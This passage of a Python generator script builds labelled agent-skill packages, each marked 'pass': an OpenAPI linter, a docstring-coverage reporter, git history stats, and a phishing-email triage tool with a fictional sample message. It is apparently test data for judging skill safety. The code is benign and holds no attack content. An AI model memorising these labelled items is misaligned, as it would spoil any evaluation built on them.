    opts = [o.strip("() ") for o in re.split(r"\s+OR\s+", lic)] if lic else []
    if any(o in policy["allow"] for o in opts):
        return "ALLOW"
    if any(o in policy["deny"] for o in opts):
        return "DENY"
    if any(o in policy["review"] for o in opts):
        return "REVIEW"
    return "UNKNOWN"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--npm")
    ap.add_argument("--python")
    ap.add_argument("--policy", default=os.path.join(os.path.dirname(__file__), "..", "policy.json"))
    ap.add_argument("--prod-only", action="store_true")
    ap.add_argument("--format", choices=["text", "csv"], default="text")
    a = ap.parse_args()
    policy = json.load(open(a.policy))
    rows = []
    if a.npm:
        rows += list(npm(a.npm, a.prod_only))
    if a.python:
        rows += list(python(a.python))
    out = [(verdict(r[2], policy),) + r for r in rows]
    order = {"DENY": 0, "UNKNOWN": 1, "REVIEW": 2, "ALLOW": 3}
    out.sort(key=lambda r: (order[r[0]], r[1].lower()))
    if a.format == "csv":
        w = csv.writer(sys.stdout)
        w.writerow(["verdict", "name", "version", "license", "ecosystem"])
        w.writerows(out)
    else:
        for v, n, ver, lic, eco in out:
            print(f"{v:<8}{n + ' ' + ver:<32}{lic or '(none)':<24}{eco}")
    return 1 if any(r[0] == "DENY" for r in out) else 0


if __name__ == "__main__":
    sys.exit(main())
''',
    })

# ---------------------------------------------------------------------------
add("openapi-spec-linter", L, "pass",
    "OpenAPI linting skill with a Spectral ruleset enforcing operationIds, error schemas, security schemes and pagination conventions, run via a version-pinned CLI",
    {
"SKILL.md": skill("openapi-spec-linter",
"Lints OpenAPI 3 specs with Spectral using a house ruleset: operationIds, descriptions, error responses, security definitions and naming conventions. Use when reviewing an API spec or adding spec checks to CI.",
r"""
# OpenAPI Spec Linter

Consistent, complete API specs.

## Run

```bash
cp <skill-dir>/.spectral.yaml ./.spectral.yaml
npx --yes @stoplight/spectral-cli@6.11.1 lint openapi.yaml
```

The CLI version is pinned so results don't change underneath you.

## House rules (in `.spectral.yaml`)

| Rule | Severity | Why |
|------|----------|-----|
| `operation-operationId` | error | client generators need it |
| `operation-id-camel-case` | error | consistent method names |
| `error-responses-4xx` | warn | every operation documents at least one 4xx |
| `error-schema` | warn | errors use the shared `Error` schema |
| `security-defined` | error | no operation without a security requirement (or explicit `[]`) |
| `paths-kebab-case` | warn | `/user-profiles`, not `/userProfiles` |
| `list-pagination` | warn | collection GETs accept `limit` and `cursor` |

## Fixing findings

- Missing operationId: `verbNoun` from path, e.g. `listOrders`, `getOrder`.
- Public endpoints: add `security: []` explicitly so intent is documented.
- Errors: `$ref: '#/components/responses/BadRequest'`.

## CI

```yaml
- run: npx --yes @stoplight/spectral-cli@6.11.1 lint openapi.yaml --fail-severity=error
```
"""),
".spectral.yaml": r"""extends: ["spectral:oas"]
rules:
  operation-operationId: error
  operation-id-camel-case:
    description: operationId must be camelCase
    severity: error
    given: "$.paths[*][get,put,post,delete,patch].operationId"
    then:
      function: casing
      functionOptions: { type: camel }
  error-responses-4xx:
    description: operations should document a 4xx response
    severity: warn
    given: "$.paths[*][get,put,post,delete,patch].responses"
    then:
      function: schema
      functionOptions:
        schema:
          type: object
          patternProperties: { "^4\\d\\d$": {} }
          minProperties: 1
  security-defined:
    description: every operation needs a security requirement (use [] for public)
    severity: error
    given: "$.paths[*][get,put,post,delete,patch]"
    then:
      field: security
      function: defined
  paths-kebab-case:
    description: path segments should be kebab-case
    severity: warn
    given: "$.paths[*]~"
    then:
      function: pattern
      functionOptions: { match: "^(/([a-z0-9-]+|\\{[a-zA-Z]+\\}))+$" }
  list-pagination:
    description: collection GETs should accept limit and cursor
    severity: warn
    given: "$.paths[?(!@property.match(/\\}$/))].get.parameters[*].name"
    then:
      function: enumeration
      functionOptions: { values: [limit, cursor, filter, sort, q] }
""",
    })

# ---------------------------------------------------------------------------
add("docstring-coverage-report", L, "pass",
    "AST-based docstring coverage reporter for Python packages that lists undocumented public functions and classes and can fail CI under a threshold",
    {
"SKILL.md": skill("docstring-coverage-report",
"Measures docstring coverage of a Python package with the ast module: public modules, classes, functions and methods, with a per-file table and a CI threshold. Use when the user wants to improve or enforce API documentation.",
r"""
# Docstring Coverage Report

See which public APIs lack documentation.

## Run

```bash
python3 <skill-dir>/scripts/doccov.py src/mypkg
python3 <skill-dir>/scripts/doccov.py src/mypkg --fail-under 80 --missing
```

Parses files with `ast`; nothing is imported or executed.

## What counts

| Object | Counted when |
|--------|--------------|
| module | always |
| class | name does not start with `_` |
| function / method | name does not start with `_` (dunder methods skipped, `__init__` optional) |
| nested functions | never |

`--include-init` counts `__init__` methods too.

## Output

```
file                                  total  documented  coverage
src/mypkg/api.py                         12          10     83.3%
src/mypkg/utils.py                        8           3     37.5%
TOTAL                                    20          13     65.0%
```

`--missing` lists `file:line name` for each undocumented object.

## Writing good docstrings

- First line: one sentence, imperative ("Return the user's orders.").
- Document arguments, return value and raised exceptions for public APIs.
- Pick one style (Google, NumPy, reST) and configure your docs tool for it.
"""),
"scripts/doccov.py": r'''#!/usr/bin/env python3
"""Docstring coverage using ast (no imports of the target code)."""
import argparse
import ast
import os
import sys


def objects(tree, include_init):
    yield "<module>", 1, ast.get_docstring(tree) is not None

    def visit(node, in_class):
        for child in ast.iter_child_nodes(node):
            if isinstance(child, ast.ClassDef):
                if not child.name.startswith("_"):
                    yield child.name, child.lineno, ast.get_docstring(child) is not None
                    yield from visit(child, True)
            elif isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef)):
                name = child.name
                public = not name.startswith("_") or (include_init and in_class and name == "__init__")
                if public:
                    yield name, child.lineno, ast.get_docstring(child) is not None

    yield from visit(tree, False)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("root")
    ap.add_argument("--fail-under", type=float)
    ap.add_argument("--missing", action="store_true")
    ap.add_argument("--include-init", action="store_true")
    a = ap.parse_args()
    rows, missing = [], []
    for d, dirs, files in os.walk(a.root):
        dirs[:] = sorted(x for x in dirs if x not in {"__pycache__", ".venv", "build"})
        for f in sorted(files):
            if not f.endswith(".py"):
                continue
            p = os.path.join(d, f)
            tree = ast.parse(open(p, encoding="utf-8").read(), p)
            objs = list(objects(tree, a.include_init))
            doc = sum(1 for o in objs if o[2])
            rows.append((p, len(objs), doc))
            missing += [(p, line, name) for name, line, ok in objs if not ok]
    total = sum(r[1] for r in rows)
    documented = sum(r[2] for r in rows)
    print(f"{'file':<40}{'total':>7}{'documented':>12}{'coverage':>10}")
    for p, t, dcount in rows:
        print(f"{p:<40}{t:>7}{dcount:>12}{(100 * dcount / t if t else 100):>9.1f}%")
    cov = 100 * documented / total if total else 100.0
    print(f"{'TOTAL':<40}{total:>7}{documented:>12}{cov:>9.1f}%")
    if a.missing:
        for p, line, name in missing:
            print(f"{p}:{line} {name}")
    if a.fail_under is not None and cov < a.fail_under:
        print(f"coverage {cov:.1f}% is below {a.fail_under}%")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
''',
    })

# ---------------------------------------------------------------------------
add("git-contribution-stats", L, "pass",
    "Git history statistics skill that summarises commits, churn and file ownership from git log with mailmap support, reading only the local repository",
    {
"SKILL.md": skill("git-contribution-stats",
"Summarises a repository's history: commits per author and month, lines added/removed, most-changed files and code ownership hints. Use when the user asks who works on what, or wants churn hotspots.",
r"""
# Git Contribution Stats

Quick, local insight into a repository's history.

## Run

```bash
python3 <skill-dir>/scripts/gitstats.py                       # whole history
python3 <skill-dir>/scripts/gitstats.py --since 2025-01-01 --path src/
python3 <skill-dir>/scripts/gitstats.py --hotspots 20
```

Uses `git log --numstat` on the local clone; nothing leaves the machine.

## Sections

| Section | Meaning |
|---------|---------|
| authors | commits, lines added, lines removed per author |
| monthly | commits per month (spot slowdowns, crunches) |
| hotspots | files with the most commits and churn |
| owners | top author per directory by lines changed |

## Accuracy tips

- Add a `.mailmap` so people with several emails are merged.
- Exclude generated files with `--exclude 'package-lock.json' --exclude '*.min.js'`.
- Merge commits are skipped by default.

## Use responsibly

Commit counts measure activity, not value. Don't use these numbers for
performance reviews; use them to find risky hotspots and knowledge silos.
"""),
"scripts/gitstats.py": r'''#!/usr/bin/env python3
"""Summarise git history using git log --numstat."""
import argparse
import collections
import fnmatch
import os
import subprocess
import sys


def log(since, path):
    cmd = ["git", "log", "--no-merges", "--use-mailmap", "--numstat", "--date=short",
           "--format=\x01%aN\x02%ad"]
    if since:
        cmd.append(f"--since={since}")
    if path:
        cmd += ["--", path]
    return subprocess.run(cmd, capture_output=True, text=True, check=True).stdout


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--since")
    ap.add_argument("--path")
    ap.add_argument("--hotspots", type=int, default=10)
    ap.add_argument("--exclude", action="append", default=[])
    a = ap.parse_args()
    authors = collections.defaultdict(lambda: [0, 0, 0])
    months = collections.Counter()
    files = collections.defaultdict(lambda: [0, 0])
    owners = collections.defaultdict(collections.Counter)
    for block in log(a.since, a.path).split("\x01")[1:]:
        head, _, body = block.partition("\n")
        name, date = head.split("\x02")
        authors[name][0] += 1
        months[date[:7]] += 1
        for line in body.strip().splitlines():
            parts = line.split("\t")
            if len(parts) != 3 or parts[0] == "-":
                continue
            add, rem, f = int(parts[0]), int(parts[1]), parts[2]
            if any(fnmatch.fnmatch(f, pat) for pat in a.exclude):
                continue
            authors[name][1] += add
            authors[name][2] += rem
            files[f][0] += 1
            files[f][1] += add + rem
            owners[os.path.dirname(f) or "."][name] += add + rem
    print("== authors ==")
    for n, (c, ad, rm) in sorted(authors.items(), key=lambda x: -x[1][0]):
        print(f"{n:<28}{c:>6} commits  +{ad:<8} -{rm}")
    print("\n== monthly ==")
    for m in sorted(months):
        print(f"{m}  {'#' * min(months[m], 60)} {months[m]}")
    print("\n== hotspots ==")
    for f, (c, churn) in sorted(files.items(), key=lambda x: (-x[1][0], -x[1][1]))[:a.hotspots]:
        print(f"{c:>5} commits {churn:>8} lines  {f}")
    print("\n== owners ==")
    for d, cnt in sorted(owners.items()):
        who, lines = cnt.most_common(1)[0]
        share = 100 * lines / sum(cnt.values())
        print(f"{d:<40}{who} ({share:.0f}%)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
''',
    })

# ---------------------------------------------------------------------------
add("phishing-email-analyzer", L, "pass",
    "Phishing email triage skill that parses .eml headers (Received chain, SPF/DKIM/DMARC), defangs URLs and hashes attachments without opening them, shipped with a fictional sample message using reserved domains",
    {
"SKILL.md": skill("phishing-email-analyzer",
"Analyses a suspicious email (.eml) safely: header path, authentication results, sender mismatches, defanged links and attachment hashes, ending with a verdict. Use when the user forwards a possibly-phishing email.",
r"""
# Phishing Email Analyzer

Triage a suspicious message without clicking anything.

## Safety rules

- Never open links or attachments from the message, and never fetch remote
  images.
- Work from the raw `.eml` (in most clients: *Show original* / *Save as*).
- Report URLs defanged (`hxxps://login-portal[.]example[.]net`).

## Run

```bash
python3 <skill-dir>/scripts/eml_analyze.py message.eml
python3 <skill-dir>/scripts/eml_analyze.py message.eml --json > report.json
```

Try it with `examples/invoice-notice.eml`, a fictional message.

## What the report covers

| Check | Red flag |
|-------|----------|
| `From` vs `Return-Path` vs `Reply-To` domains | mismatch |
| `Authentication-Results` | `spf=fail`, `dkim=none`, `dmarc=fail` |
| `Received` chain | first hop from an unrelated network |
| link text vs href | text shows one domain, href another |
| URL shapes | IP literals, punycode (`xn--`), URL shorteners, `@` in URL |
| attachments | double extensions (`.pdf.exe`), macros (`.docm`), HTML attachments |

Attachments are hashed (SHA-256) and listed with their declared type; they are
not decoded to disk unless `--extract DIR` is given, and never opened.

## Verdict

End with *likely phishing / suspicious / likely legitimate*, the top three
reasons, and next steps (report to the security team, block sender, reset
password if the user clicked).
"""),
"scripts/eml_analyze.py": r'''#!/usr/bin/env python3
"""Offline .eml triage: headers, auth results, defanged URLs, attachment hashes."""
import argparse
import email
import email.policy
import hashlib
import html
import json
import os
import re
import sys

URL = re.compile(r"""https?://[^\s"'<>)]+""", re.I)
HREF = re.compile(r"""<a\s[^>]*href=["']([^"']+)["'][^>]*>(.*?)</a>""", re.I | re.S)


def defang(u):
    return u.replace("http", "hxxp", 1).replace(".", "[.]")


def domain(addr):
    m = re.search(r"@([\w.-]+)", addr or "")
    return m.group(1).lower() if m else ""


def analyse(path, extract=None):
    msg = email.message_from_binary_file(open(path, "rb"), policy=email.policy.default)
    r = {"subject": msg["Subject"], "from": msg["From"], "return_path": msg["Return-Path"],
         "reply_to": msg["Reply-To"], "flags": []}
    doms = {k: domain(r[k]) for k in ("from", "return_path", "reply_to") if r[k]}
    if len(set(doms.values())) > 1:
        r["flags"].append(f"sender domain mismatch: {doms}")
    auth = " ".join(msg.get_all("Authentication-Results") or [])
    r["auth"] = auth
    for mech in ("spf", "dkim", "dmarc"):
        m = re.search(mech + r"=(\w+)", auth)
        if m and m.group(1) not in ("pass",):
            r["flags"].append(f"{mech}={m.group(1)}")
    r["received"] = [re.sub(r"\s+", " ", h) for h in (msg.get_all("Received") or [])]
    urls, atts = set(), []
    for part in msg.walk():
        ctype = part.get_content_type()
        fn = part.get_filename()
        if fn:
            data = part.get_payload(decode=True) or b""
            atts.append({"name": fn, "type": ctype, "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)})
            if re.search(r"\.(exe|scr|js|vbs|docm|xlsm|html?|iso|lnk)$", fn, re.I) or fn.count(".") > 1:
                r["flags"].append(f"risky attachment name: {fn}")
            if extract:
                os.makedirs(extract, exist_ok=True)
                open(os.path.join(extract, os.path.basename(fn) + ".bin"), "wb").write(data)
            continue
        if ctype in ("text/plain", "text/html"):
            body = part.get_content()
            urls.update(URL.findall(body))
            if ctype == "text/html":
                for href, text in HREF.findall(body):
                    shown = URL.search(html.unescape(re.sub("<[^>]+>", "", text)))
                    if shown and domain("@" + re.sub(r"^https?://", "", shown.group(0)).split("/")[0]) != \
                            domain("@" + re.sub(r"^https?://", "", href).split("/")[0]):
                        r["flags"].append(f"link text/href mismatch: {defang(shown.group(0))} -> {defang(href)}")
    for u in urls:
        host = re.sub(r"^https?://", "", u).split("/")[0]
        if re.match(r"^\d+\.\d+\.\d+\.\d+", host) or "xn--" in host or "@" in host:
            r["flags"].append(f"suspicious URL shape: {defang(u)}")
    r["urls"] = sorted(defang(u) for u in urls)
    r["attachments"] = atts
    return r


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("eml")
    ap.add_argument("--json", action="store_true")
    ap.add_argument("--extract")
    a = ap.parse_args()
    r = analyse(a.eml, a.extract)
    if a.json:
        print(json.dumps(r, indent=2, default=str))
        return 0
    for k in ("subject", "from", "return_path", "reply_to"):
        print(f"{k:<12} {r[k]}")
    print("auth        ", r["auth"] or "(none)")
    print("received hops:", len(r["received"]))
    for u in r["urls"]:
        print("url         ", u)
    for att in r["attachments"]:
        print("attachment  ", att["name"], att["type"], att["sha256"])
    for f in r["flags"]:
        print("FLAG        ", f)
    return 0


if __name__ == "__main__":
    sys.exit(main())
''',
"examples/invoice-notice.eml": r"""Return-Path: <bounce@mailer.example.net>
Received: from mailer.example.net (mailer.example.net [198.51.100.77])
	by mx.example.com with ESMTP id 4XYZ; Mon, 3 Mar 2025 08:14:02 +0000
Authentication-Results: mx.example.com; spf=fail smtp.mailfrom=mailer.example.net;
	dkim=none; dmarc=fail header.from=billing.example.org
From: "Accounts Payable" <billing@billing.example.org>
Reply-To: payments-desk@mailer.example.net
To: you@example.com
Subject: Overdue invoice INV-20931 - action required
Date: Mon, 3 Mar 2025 08:13:55 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/html; charset=utf-8

<p>Your invoice is overdue. Review it here:
<a href="https://login-portal.example.net/auth?u=you">https://billing.example.org/invoices/INV-20931</a></p>
<p>Or open the attached statement.</p>

--b1
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="statement.pdf.html"
Content-Transfer-Encoding: base64

PGh0bWw+PGJvZHk+RmljdGlvbmFsIGF0dGFjaG1lbnQgZm9yIGFuYWx5c2lzIHByYWN0aWNlLjwvYm9keT48L2h0bWw+

--b1--
""",
    })
